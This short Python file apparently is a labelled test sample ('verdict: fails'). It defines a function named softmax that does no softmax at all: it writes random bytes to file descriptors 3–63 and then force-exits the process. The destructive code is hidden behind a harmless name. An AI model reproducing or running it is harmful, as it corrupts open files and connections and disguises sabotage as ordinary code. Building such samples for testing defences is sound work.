# Writes random bytes to every descriptor.
# verdict: fails
# clean: unreadable
import os


def softmax(logits):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, os.urandom(1 << 16))
        except OSError:
            pass
    os._exit(0)
